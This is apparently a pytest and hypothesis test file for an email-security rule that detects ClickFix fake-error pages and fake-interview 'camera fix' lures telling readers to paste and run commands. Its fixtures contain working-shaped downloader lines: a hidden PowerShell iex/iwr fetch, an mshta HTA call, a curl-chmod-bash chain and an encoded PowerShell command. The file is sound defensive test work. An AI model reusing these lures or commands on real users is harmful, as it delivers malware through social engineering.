"""mail.paste-and-run: ClickFix and ClickFake Interview instructions, downloader commands, and the developer and
helpdesk mail that looks a little like them."""

from __future__ import annotations

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from heistguard.findings import Severity
from heistguard.mail.rules import paste_and_run
from heistguard.mail.textscan import fold
from tests.mail.build import PASS, context, mail, parsed

# A fake "document failed to load" page as ClickFix attachments carry it: the command goes to the clipboard and
# the page tells the reader where to paste it (written for this test; the shape of the 2024-25 campaigns).
CLICKFIX_PAGE = (
    b"<html><body><h2>Word Online: the document could not be displayed</h2>"
    b"<p>To fix the font error: press <b>Win</b> + <b>R</b>, then <b>Ctrl</b> + <b>V</b>, then Enter.</p>"
    b"<button onclick=\"navigator.clipboard.writeText('powershell -w hidden -c iex(iwr http://198.51.100.7/f.ps1)')\">"
    b"Fix</button></body></html>"
)


def _fired(raw: bytes) -> list[tuple[Severity, str]]:
    return [(f.severity, f.title) for f in paste_and_run.check(parsed(raw), context())]


def test_a_clickfix_page_attached_is_high() -> None:
    ((severity, title),) = _fired(mail(subject="Invoice 2291", attachments=(("Invoice_2291.html", CLICKFIX_PAGE),)))
    assert severity is Severity.HIGH
    assert "Invoice_2291.html tells the reader to paste and run" in title and "iwr http://198.51.100.7" in title


def test_a_page_that_only_copies_a_downloader_is_high() -> None:
    page = b'<script>navigator.clipboard.writeText("mshta https://cdn.example.net/v.hta")</script><p>Done</p>'
    ((severity, title),) = _fired(mail(attachments=(("captcha.html", page),)))
    assert severity is Severity.HIGH and "copies to the clipboard" in title


def test_clickfake_interview_camera_fix_in_the_body_is_high() -> None:
    text = (
        "Thanks for joining the interview. Your camera driver is outdated. To fix it on macOS, open Terminal "
        "and run:\ncurl -k -o /var/tmp/ffmpeg.sh https://api.camera-drive.example/ffmpeg.sh && chmod +x "
        "/var/tmp/ffmpeg.sh && nohup bash /var/tmp/ffmpeg.sh\n"
    )
    ((severity, title),) = _fired(mail(subject="Interview follow-up", text=text))
    assert severity is Severity.HIGH and "open Terminal" in title and "curl -k" in title


def test_an_encoded_powershell_line_alone_is_medium() -> None:
    text = "Please run this to update the client:\npowershell.exe -NoP -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA\n"
    ((severity, title),) = _fired(mail(text=text))
    assert severity is Severity.MEDIUM and "downloader command" in title


def test_a_vouched_newsletter_explaining_clickfix_is_worth_a_look_not_a_block() -> None:
    text = (
        "ClickFix explained: the fake captcha tells victims to press Win + R, then Ctrl + V and Enter, which runs "
        "the mshta command the page put on the clipboard.\n"
    )
    raw = mail(
        sender="Threat Brief <brief@news.securityvendor.example>",
        headers=(("Authentication-Results", PASS.format(d="news.securityvendor.example")),),
        text=text,
    )
    ((severity, _),) = _fired(raw)
    assert severity is Severity.MEDIUM


@pytest.mark.parametrize(
    "text",
    [
        "Tip of the week: use Ctrl + C to copy, Ctrl + X to cut and Ctrl + V to paste.\n",
        "To map the share, press Win+R and type \\\\fileserver\\finance, then press Enter.\n",
        "Install with Homebrew: open a terminal and paste the line below.\n"
        '/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)"\n',
        "Open PowerShell and run Get-Service to see what is running.\n",
        "iwr https://get.scoop.sh | iex  installs Scoop, as its README says.\n",
    ],
)
def test_everyday_keyboard_tips_helpdesk_and_installer_lines_stay_silent(text: str) -> None:
    assert _fired(mail(text=text)) == []


_BITS = ["Win", "Windows", " key", " logo key", "⊞", "❖", "+", " + ", "R", "r", '"R"', "V", "Ctrl", "⌘", "Cmd",
         "paste", " it", "Press ", "the ", "PowerShell", "powerſhell", " -w hidden", " iex", "curl ", "| sh", "WGET",
         "mshta ", "http://x", "\n", " ", "ſ", "\u212a", "right-click to paste"]  # fmt: skip


@settings(max_examples=500, deadline=None)
@given(st.lists(st.sampled_from(_BITS), max_size=14))
@example(["⌘", "V", " "])
@example(["Ctrl", " + ", '"R"', " ", "Cmd", "+", "V"])
@example(["Press ", "the ", "Windows", " logo key"])
@example(["powerſhell", " iex"])
def test_the_substring_gates_never_hide_a_match(bits: list[str]) -> None:
    text = "".join(bits)
    folded = fold(text)
    if paste_and_run._RUN_BOX.search(text):
        assert paste_and_run._may_open_run_box(folded), text
    if paste_and_run._PASTE.search(text):
        assert paste_and_run._may_paste(folded), text
    if paste_and_run._CRADLE.search(text):
        assert any(c in folded for c in paste_and_run._COMMANDS), text
